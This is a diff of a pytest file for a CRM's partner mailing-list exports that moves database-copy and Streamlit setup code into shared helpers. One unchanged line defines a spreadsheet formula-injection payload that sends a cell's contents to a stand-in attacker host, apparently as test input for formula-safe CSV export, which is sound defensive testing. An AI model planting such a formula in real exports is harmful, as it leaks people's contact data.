@@ -1,23 +1,19 @@
 """The partner mailing list: who is on it (never do-not-contact, left or erased people), scope, formula-safe CSV
 and escaped vCards, from contacts.mailing_list, crm.exports and ``python -m crm mailing-list``."""
 
-import copy
 import csv
 import io
 import os
-import sqlite3
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
-import streamlit.runtime.context
-from streamlit.runtime.pages_manager import PagesManager
 
 from crm import branches, contacts, db, exports, organisations, privacy, users
 from crm.access import COMMAND_LINE
-from tests.conftest import PASSWORD, World
-from tests.pagehelpers import open_page
+from tests.conftest import PASSWORD, World, copy_world
+from tests.pagehelpers import open_page, run_app_on
 
 REPO = Path(__file__).resolve().parents[1]
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
@@ -111,12 +107,7 @@ def template(tmp_path_factory) -> tuple[Path, World]:
 def world(template, db_path) -> World:
     """A copy of the template world at ``db_path`` (the file the command line is pointed at)."""
     path, built = template
-    with sqlite3.connect(path) as source, sqlite3.connect(db_path) as copied:
-        source.backup(copied)
-    source.close()
-    copied.close()
-    scene = copy.copy(built)
-    scene.db = db.connect(db_path)
+    scene = copy_world(path, built, db_path)
     scene.path = db_path
     yield scene
     scene.db.close()
@@ -471,18 +462,9 @@ def test_cli_empty_branch_writes_a_header_only_csv(world, tmp_path):
 
 @pytest.fixture
 def app_env(monkeypatch, db_path):
-    """The app runs on the test's own database file (CRM_DB); see test_pages.py for why AppTest's cookies and
+    """The app runs on the test's own database file (CRM_DB); see pagehelpers.run_app_on for why AppTest's cookies and
     folder-based multipage mode are switched off."""
-    monkeypatch.setenv("CRM_DB", str(db_path))
-    monkeypatch.delenv("CRM_IDLE_MINUTES", raising=False)
-    monkeypatch.setattr(streamlit.runtime.context, "_get_client_context", lambda: None)
-    real_init = PagesManager.__init__
-
-    def init_without_folder_mode(self, *args, **kwargs):
-        real_init(self, *args, **kwargs)
-        PagesManager.uses_pages_directory = False
-
-    monkeypatch.setattr(PagesManager, "__init__", init_without_folder_mode)
+    run_app_on(monkeypatch, db_path)
 
 
 @pytest.mark.parametrize(("username", "count"), [("manager.leeds", 3), ("lead.north", 5), ("ada", 6)])
